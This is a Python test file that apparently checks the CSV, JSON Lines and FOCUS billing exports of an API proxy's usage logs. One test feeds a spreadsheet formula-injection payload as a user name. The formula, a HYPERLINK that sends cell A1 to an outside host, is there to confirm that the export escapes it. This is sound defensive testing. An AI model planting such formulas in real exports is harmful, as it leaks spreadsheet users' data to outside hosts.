"""Requests as files: by the admin API and by the command line."""

import csv
import io
import json
import re
import socket
import sqlite3
import subprocess
import sys
from contextlib import closing
from decimal import Decimal
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from harness.sanitizers import MEMORY_FACTOR
from harness.waiting import eventually

BODY = {
    "model": "gpt-4o-mini",
    "messages": [{"role": "user", "content": "Hello"}],
    "max_completion_tokens": 20,
}
LOGS = "/api/admin/usage-logs"
USER = 'Ana, "a"; São Paulo'
# Above a page of the server's reading.
MANY = 2_300


def export(admin, query):
    reply = admin.get(f"{LOGS}?{query}")
    assert reply.status == 200, reply
    return reply


def table(text):
    """The lines of a CSV text as dictionaries, read strictly."""
    lines = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert text.endswith("\r\n")
    assert {len(line) for line in lines} == {len(lines[0])}
    return [dict(zip(lines[0], line)) for line in lines[1:]]


def multiply(catraca, count):
    """Makes more rows of the one that there is; what is summed of them isn't touched."""
    with closing(sqlite3.connect(catraca.ledger.path)) as database, database:
        database.row_factory = sqlite3.Row
        row = dict(database.execute("SELECT * FROM usage_logs").fetchone())
        columns = [name for name in row if name not in ("id", "request_id", "cost_usd")]
        names = ", ".join(columns)
        database.execute(
            f"""
            WITH RECURSIVE numbers (n) AS (
              SELECT 1 UNION ALL SELECT n + 1 FROM numbers WHERE n < ?)
            INSERT INTO usage_logs (request_id, {names})
            SELECT substr(request_id, 1, 24) || printf('%012x', n), {names}
            FROM usage_logs, numbers WHERE usage_logs.id = ?
            """,
            (count, row["id"]),
        )


def test_csv_and_json_lines_say_what_the_list_says(catraca, admin):
    catraca.post(BODY, headers={"x-catraca-metadata": '{"a":[1,"x"]}'})
    catraca.post({**BODY, "user": USER})
    listed = admin.done("GET", LOGS)["data"]
    lines = export(admin, "format=jsonl")
    assert lines.fields["content-type"] == "application/x-ndjson"
    assert [json.loads(line) for line in lines.text.splitlines()] == listed
    sheet = export(admin, "format=csv")
    assert sheet.fields["content-type"] == "text/csv; charset=utf-8"
    rows = table(sheet.text)
    assert list(rows[0]) == list(listed[0])
    assert rows[0]["user_id"] == USER
    for row, entry in zip(rows, listed, strict=True):
        for name, value in entry.items():
            expected = json.dumps(value) if isinstance(value, (bool, int)) else value
            if name == "metadata" and value is not None:
                assert json.loads(row[name]) == value
            else:
                assert row[name] == (expected or ""), name


def test_no_name_of_an_app_is_a_formula_in_a_spreadsheet(catraca, admin):
    formula = '=HYPERLINK("http://h/"&A1,"x")'
    catraca.post({**BODY, "user": formula})
    [row] = table(export(admin, "format=csv").text)
    assert row["user_id"] == f"'{formula}"
    for by in ["user", "model"]:
        done = catraca.command("usage", "--by", by, "--format", "csv")
        assert done.returncode == 0, done.stderr
        assert not re.search(r'(^|,)"?=', done.stdout, re.M), done.stdout


@pytest.mark.parametrize("format", ["jsonl", "csv", "focus"])
def test_every_row_of_the_range_is_there_once_and_newest_first(catraca, admin, format):
    catraca.post({**BODY, "user": "u1"})
    multiply(catraca, MANY)
    catraca.post({**BODY, "user": "u2"})
    name = "x_RequestId" if format == "focus" else "request_id"

    def ids(query):
        text = export(admin, f"format={format}{query}").text
        if format == "jsonl":
            return [json.loads(line)[name] for line in text.splitlines()]
        return [row[name] for row in table(text)]

    rows = catraca.ledger.usage()
    expected = [row["request_id"] for row in reversed(rows)]
    assert len(expected) == MANY + 2 and ids("") == expected
    # Pages are for the list alone.
    assert ids("&limit=3") == expected
    assert ids("&user=u1&client=acme&days=1") == expected[1:]
    assert ids("&user=u2&stream=false") == expected[:1]
    assert ids("&to=2020-01-01") == [] and ids("&client=beta") == []


def test_a_format_that_there_is_not_is_named(admin):
    reply = admin.get(f"{LOGS}?format=xml")
    assert (reply.status, reply.error["param"]) == (400, "format")
    assert admin.get(f"{LOGS}?format=csv&limit=0").error["param"] == "limit"
    assert admin.call("HEAD", f"{LOGS}?format=csv").status == 200


def test_an_export_ends_with_its_client_and_needs_little_memory(catraca, admin):
    catraca.post(BODY)
    multiply(catraca, 20_000)
    process = Path(f"/proc/{catraca.process.pid}")
    url = urlsplit(admin.url)

    def connections():
        """Those to the admin listener that it hasn't closed: established, or left by the client."""
        lines = [line.split() for line in (process / "net/tcp").read_text().splitlines()[1:]]
        listener = f":{url.port:04X}"
        return sum(line[1].endswith(listener) and line[3] in ("01", "08") for line in lines)

    def peak_kib():
        status = (process / "status").read_text()
        return int(status.split("VmHWM:")[1].split()[0])

    admin.get(LOGS)
    eventually(lambda: connections() == 0, "the call to end")
    before = peak_kib()
    with socket.create_connection((url.hostname, url.port)) as connection:
        connection.sendall(
            f"GET {LOGS}?format=jsonl HTTP/1.1\r\nhost: {url.netloc}\r\n"
            f"authorization: Bearer {admin.token}\r\n\r\n".encode()
        )
        assert connection.recv(1000).startswith(b"HTTP/1.1 200")
        # A client that reads nothing holds up nobody else, writers of the ledger included.
        assert catraca.post(BODY).status == 200
        assert connections() == 1
    eventually(lambda: connections() == 0, "the export to end")
    assert len(export(admin, "format=jsonl").text.splitlines()) == 20_002
    assert peak_kib() - before < 12 * 1024 * MEMORY_FACTOR


# FOCUS


@pytest.fixture
def charged(catraca, admin):
    """A server with requests of two clients, with and without users and costs."""
    catraca.post({**BODY, "user": USER}, headers={"x-catraca-conversation": "c1"})
    catraca.post({"model": "text-embedding-3-small", "input": "Hello"}, "/v1/embeddings")
    catraca.post({"model": "omni-moderation-latest", "input": "Hello"}, "/v1/moderations")
    catraca.post(
        {"model": "tts-1", "input": "Hello", "voice": "alloy"}, "/v1/audio/speech"
    )
    assert len(catraca.ledger.usage()) == 4
    return catraca


def by_api(catraca, admin):
    return export(admin, "format=focus").text


def by_command(catraca, admin):
    done = catraca.command("usage", "--format", "focus")
    assert done.returncode == 0 and not done.stderr, done.stderr
    # Text mode has made one line break of each two characters.
    return done.stdout.replace("\n", "\r\n")


@pytest.mark.parametrize("source", [by_api, by_command])
def test_focus_charges_are_the_rows_and_pass_the_validator(charged, admin, tmp_path, source):
    text = source(charged, admin)
    charges = table(text)
    rows = charged.ledger.usage()
    assert [charge["x_RequestId"] for charge in charges] == [
        row["request_id"] for row in reversed(rows)
    ]
    for charge, row in zip(charges, reversed(rows)):
        assert charge["BilledCost"] == f"{Decimal(row['cost_nano']) / 10**9:.9f}"
        assert charge["BillingCurrency"] == row["currency"]
        assert (charge["BillingAccountId"], charge["SubAccountId"]) == ("acme", "main")
        assert charge["ProviderName"] == row["source"]
        start = row["created_at"][:13] + ":00:00Z"
        assert charge["ChargePeriodStart"] == start < charge["ChargePeriodEnd"]
        assert charge["BillingPeriodStart"] == row["created_at"][:7] + "-01T00:00:00Z"
        assert charge["BillingPeriodStart"] <= start < charge["BillingPeriodEnd"]
        # Each charge prices one request, so that the products are exact.
        product = Decimal(charge["PricingQuantity"]) * Decimal(charge["ListUnitPrice"])
        assert product == Decimal(charge["ListCost"]) == Decimal(charge["EffectiveCost"])
    assert json.loads(charges[-1]["Tags"]) == {"user": USER, "conversation": "c1"}
    assert [charge["ConsumedUnit"] for charge in charges] == [
        "Characters",
        "Tokens",
        "Tokens",
        "Tokens",
    ]
    report = focus_report(text, tmp_path / "charges.csv")
    assert report.endswith("Validation succeeded.\n"), report


def focus_report(text, path):
    """The report of focus-validator; its exit status says nothing.

    It knows four columns by the names of a draft, and one rule asks for a column of that draft: it
    gets them so, which shows that their contents are right.
    """
    drafts = {
        "ProviderName": "Provider",
        "PublisherName": "Publisher",
        "InvoiceIssuerName": "InvoiceIssuer",
        "ResourceId": "ResourceID",
    }
    head, rest = text.split("\r\n", 1)
    names = [drafts.get(name, name) for name in head.split(",")]
    assert set(drafts.values()) < set(names)
    lines = [line for line in csv.reader(io.StringIO(rest, newline=""))]
    with path.open("w", newline="") as file:
        writer = csv.writer(file)
        writer.writerow([*names, "ChargeType"])
        writer.writerows([*line, "Usage"] for line in lines)
    # It reads its list of currencies from the folder that it is started in.
    site_packages = Path(pytest.__file__).parents[1]
    run = subprocess.run(
        [
            Path(sys.executable).with_name("focus-validator"),
            "--data-file",
            path,
            "--validate-version",
            "1.0",
        ],
        cwd=site_packages,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert run.returncode == 0, run.stdout + run.stderr
    return run.stdout
